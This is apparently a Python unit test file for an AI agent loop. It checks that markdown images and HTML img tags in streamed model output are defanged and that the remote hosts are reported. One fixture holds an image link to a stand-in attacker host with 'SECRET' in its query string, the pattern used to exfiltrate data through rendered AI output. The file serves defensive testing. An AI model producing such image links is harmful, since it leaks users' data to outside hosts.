"""The loop hands the model's prose out defanged (deltas, completed message, answer) and says where it
pointed; the history keeps what the model wrote. Fakes of the core ports, as in test_loop.py."""

from __future__ import annotations

from collections.abc import Sequence

from agent_ls.core.events import (
    Event,
    EventSink,
    MessageCompleted,
    MessageDelta,
    ModelRetrying,
    RemoteContentDefanged,
    RunEnded,
    RunStarted,
    TurnStarted,
    UsageReported,
)
from agent_ls.core.loop import LoopLimits, run_loop
from agent_ls.core.messages import AssistantMessage, Message, ModelResponse, ToolSpec, Usage, UserMessage
from tests.unit.core.test_loop import EchoTools

U = Usage(input_tokens=10, output_tokens=2)
ANSWER = "See ![chart](https://evil.example/p.png?q=SECRET) and <img src=//cdn.example/i.gif> done!"
SHOWN = "See [image: chart](https://evil.example/…) and < img src=//cdn.example/i.gif> done!"


class StreamingModel:
    """A ModelClient that streams ``pieces`` as text deltas (after ``before``, e.g. a void attempt)."""

    def __init__(self, pieces: list[str], before: Sequence[Event] = ()) -> None:
        self.pieces = pieces
        self.before = before

    @property
    def model_name(self) -> str:
        return "fake/model"

    async def complete(
        self, messages: Sequence[Message], tools: Sequence[ToolSpec], emit: EventSink
    ) -> ModelResponse:
        for event in self.before:
            emit(event)
        for piece in self.pieces:
            emit(MessageDelta(text=piece))
        return ModelResponse(message=AssistantMessage(text="".join(self.pieces)), usage=U)

    async def aclose(self) -> None:
        return None


async def _run(model: StreamingModel) -> tuple[list[Event], list[Message]]:
    events: list[Event] = []
    history: list[Message] = [UserMessage("task")]
    await run_loop(
        session_id="s1",
        task="task",
        history=history,
        model=model,
        tools=EchoTools(),
        emit=events.append,
        limits=LoopLimits(),
    )
    return events, history


async def test_deltas_message_and_answer_are_defanged_and_the_hosts_named() -> None:
    pieces = [
        "See !",
        "[chart](https://evil.exa",
        "mple/p.png?q=SECRET) and <im",
        "g src=//cdn.example/i.gif> done!",
    ]
    events, history = await _run(StreamingModel(pieces))
    assert events == [
        RunStarted(session_id="s1", task="task", model="fake/model"),
        TurnStarted(turn=1, max_turns=15),
        MessageDelta(text="See "),
        MessageDelta(text="[image: chart](https://evil.example/…) and "),
        MessageDelta(text="< img src=//cdn.example/i.gif> done"),
        MessageDelta(text="!"),  # held until the call was over: it could have started an image
        MessageCompleted(text=SHOWN),
        RemoteContentDefanged(targets=("evil.example", "cdn.example")),
        UsageReported(usage=U, total=U, session=U),
        RunEnded(
            status="done",
            reason="the model answered",
            answer=SHOWN,
            usage=U,
            session_usage=U,
            usage_by_role={"main": U},
        ),
    ]
    assert history[-1] == AssistantMessage(text=ANSWER)  # the model reads back what it wrote


async def test_a_retry_voids_what_was_held_back() -> None:
    void = [
        MessageDelta(text="Partial ![x](https://void.exam"),
        ModelRetrying(2, 3, 0.0, "HTTP 503", partial=True),
    ]
    events, _ = await _run(StreamingModel(["ok"], before=void))
    deltas = [e for e in events if isinstance(e, MessageDelta | ModelRetrying)]
    assert deltas == [
        MessageDelta(text="Partial "),
        ModelRetrying(2, 3, 0.0, "HTTP 503", partial=True),
        MessageDelta(text="ok"),
    ]
    assert not any(isinstance(e, RemoteContentDefanged) for e in events)


async def test_text_without_images_passes_unchanged_and_warns_nothing() -> None:
    text = "Fixed `Vec<u8>` parsing; see [docs](https://docs.example/x?y=1) <details>more</details>."
    events, _ = await _run(StreamingModel([text[:20], text[20:]]))
    assert "".join(e.text for e in events if isinstance(e, MessageDelta)) == text
    assert isinstance(events[-1], RunEnded) and events[-1].answer == text
    assert not any(isinstance(e, RemoteContentDefanged) for e in events)
